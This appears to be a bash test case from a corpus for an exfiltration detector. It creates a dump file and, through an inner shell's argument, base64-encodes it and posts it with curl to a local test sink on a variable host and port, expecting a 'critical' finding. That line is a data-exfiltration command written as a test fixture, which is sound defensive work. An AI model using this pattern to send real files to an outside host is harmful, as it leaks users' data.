#!/bin/bash
# B-argv-shell: the dump's text as an argument of a shell, which hands it to curl.
# flow: argv over exec, then a fork and argv again, no longer than before.
# tools: curl base64
# expect: sent encoded port critical
. "$CORPUS/lib.sh"
mkdump
sink http
# shellcheck disable=SC2016 # the inner shell's own
sh -c 'curl -sS -d "$1" "$2"; true' sh "$(head -c 60000 "$D" | base64 -w0)" "http://$SINK:$PORT/up"
sunk 80000
